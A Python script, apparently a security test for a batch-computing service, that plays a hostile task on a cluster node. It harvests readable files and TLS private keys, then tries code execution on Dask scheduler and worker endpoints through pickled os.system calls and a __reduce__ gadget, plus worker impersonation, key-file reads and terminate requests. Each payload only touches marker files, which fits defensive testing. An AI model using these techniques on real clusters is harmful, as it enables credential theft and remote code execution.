"""What a hostile task does with everything readable on its node (run as a task, or by hand).

``python attack_node.py MARKER_DIR TARGETS_JSON`` with ``AZ_BATCH_NODE_ROOT_DIR`` and
``AZ_BATCH_NODE_ID`` set (a task has them). ``TARGETS_JSON`` is a file holding
``{node_id: [worker address, worker name]}`` for the pool's nodes: a real attacker would
find the other nodes' workers by scanning. The script reads every readable file under the
node root, takes the node's TLS material from it, and tries to run code on the service
machine (through the scheduler) and on another node (through its worker). Every attempt
that would run code touches a file in ``MARKER_DIR``. It prints one JSON report:
``{"read": [...], "tls": bool, "attempts": {name: "refused: ..." | "ACCEPTED: ..."}}``.

Standalone on purpose: it imports nothing of hpcbatch, only what a task could import.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

TIMEOUT_S = 20


class Touch:
    """Unpickling this runs ``touch PATH`` (wherever it is unpickled)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.path}",))


def read_everything(root: Path) -> tuple[list[str], dict[str, Path]]:
    """Read every readable file under ``root``; return their names and the TLS files found."""
    read, tls = [], {}
    for dirpath, _, files in os.walk(root):
        for name in files:
            path = Path(dirpath, name)
            try:
                data = path.read_bytes()
            except OSError:
                continue
            read.append(str(path.relative_to(root)))
            if b"PRIVATE KEY" in data:
                tls.setdefault("key", path)
            elif b"BEGIN CERTIFICATE" in data:
                tls.setdefault("ca" if name == "ca.pem" else "cert", path)
    return read, tls


async def attempt(name: str, coro: Any, report: dict[str, str]) -> None:
    try:
        result = await asyncio.wait_for(coro, TIMEOUT_S)
    except Exception as exc:  # noqa: BLE001 - any failure is a refusal
        report[name] = f"refused: {type(exc).__name__}: {exc}"[:300]
    else:
        report[name] = f"ACCEPTED: {result!r}"[:300]


async def main() -> dict[str, Any]:
    from distributed import Client, Security
    from distributed.comm import connect
    from distributed.core import rpc
    from distributed.protocol import pickle
    from distributed.protocol.serialize import ToPickle

    markers = Path(sys.argv[1])
    targets = json.loads(Path(sys.argv[2]).read_text())  # noqa: ASYNC240 - a one-shot attack script
    root = Path(os.environ["AZ_BATCH_NODE_ROOT_DIR"])
    me = os.environ["AZ_BATCH_NODE_ID"]
    read, tls = read_everything(root)
    out: dict[str, Any] = {"read": read, "tls": sorted(tls), "attempts": {}, "controls": {}}
    if set(tls) != {"ca", "cert", "key"}:
        return out
    config = json.loads((root / "node.json").read_text())
    scheduler = config["scheduler_address"]
    sec = Security(require_encryption=True, tls_ca_file=str(tls["ca"]),
                   tls_client_cert=str(tls["cert"]), tls_client_key=str(tls["key"]))
    args = sec.get_connection_args("client")
    other_id = next(n for n in targets if n != me)
    other_addr, other_name = targets[other_id]
    my_addr = targets[me][0]
    report: dict[str, str] = out["attempts"]

    system = pickle.dumps(os.system)

    def argv(tag: str) -> bytes:
        return pickle.dumps((f"touch {markers / tag}",))

    async def client_ops() -> Any:
        async with Client(scheduler, security=sec, asynchronous=True, timeout=10) as c:
            results = []
            for call in (lambda: c.run_on_scheduler(os.system, f"touch {markers}/client-sched"),
                         lambda: c.run(os.system, f"touch {markers}/client-run"),
                         lambda: c.submit(os.system, f"touch {markers}/client-submit")):
                results.append(await call())
            return results

    await attempt("client", client_ops(), report)

    async def scheduler_op(op: str, **kw: Any) -> Any:
        r = rpc(scheduler, connection_args=args)
        try:
            return await getattr(r, op)(**kw)
        finally:
            await r.close_rpc()

    sched_ops = {
        "run_function": {"function": system, "args": argv("sched-run_function")},
        "broadcast": {"msg": {"op": "run", "function": system,
                               "args": argv("sched-broadcast"), "kwargs": pickle.dumps({})}},
        "register-client": {"client": "evil", "versions": {}},
        "register_scheduler_plugin": {"plugin": pickle.dumps(Touch(markers / "sched-plugin")),
                                          "name": "evil", "idempotent": False},
        "register_worker_plugin": {"plugin": pickle.dumps(Touch(markers / "worker-plugin")),
                                       "name": "evil"},
        "proxy": {"msg": {"op": "run", "function": system, "args": argv("sched-proxy")},
                      "worker": other_addr},
        "retire_workers": {"workers": [other_addr], "close_workers": True},
        "restart": {},
        "terminate": {},
        "identity": {},
    }
    for op, kw in sched_ops.items():
        await attempt(f"scheduler {op}", scheduler_op(op, **kw), report)

    async def raw(addr: str, msg: dict[str, Any]) -> Any:
        comm = await connect(addr, **args)
        try:
            await comm.write(msg)
            return await comm.read()
        finally:
            comm.abort()

    register = {"op": "register-worker", "address": "tls://127.0.0.1:1", "status": "running",
                "server_id": "evil", "nthreads": 1, "name": other_name, "now": 0.0,
                "resources": {}, "memory_limit": 0, "metrics": {}, "pid": 1, "services": {},
                "local_directory": "/tmp", "versions": {}, "nanny": None, "extra": {},
                "stimulus_id": "evil", "reply": True}
    # Control: what a worker does is accepted, so the refusals are not a broken connection.
    await attempt("heartbeat of its own worker", raw(scheduler, {
        "op": "heartbeat_worker", "address": my_addr, "now": 0.0, "metrics": {},
        "reply": True}), out["controls"])
    await attempt("register-worker as another node", raw(scheduler, register), report)
    await attempt("pickle to the scheduler", raw(scheduler, {
        "op": "heartbeat_worker", "address": my_addr, "now": 0.0,
        "metrics": ToPickle(Touch(markers / "sched-unpickled")), "reply": True}), report)

    for label, addr in (("other node", other_addr), ("own node", my_addr)):
        await attempt(f"{label} run", raw(addr, {
            "op": "run", "function": system, "args": argv(f"{label}-run".replace(" ", "-")),
            "kwargs": pickle.dumps({}), "wait": True, "reply": True}), report)
        await attempt(f"{label} hpcbatch_call", raw(addr, {
            "op": "hpcbatch_call", "operation": "read_file",
            "args": {"rel_path": "secrets/tls/key.pem"}, "reply": True}), report)
        await attempt(f"{label} hpcbatch_exchange", raw(addr, {
            "op": "hpcbatch_exchange", "launches": pickle.dumps([]), "reply": True}), report)
        await attempt(f"{label} plugin-add", raw(addr, {
            "op": "plugin-add", "plugin": pickle.dumps(Touch(markers / "plugin-add")),
            "name": "evil", "reply": True}), report)
        await attempt(f"{label} get_data", raw(addr, {
            "op": "get_data", "keys": ["x"], "who": None, "reply": True}), report)
        await attempt(f"{label} terminate", raw(addr, {"op": "terminate", "reply": True}),
                      report)
    return out


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main())))
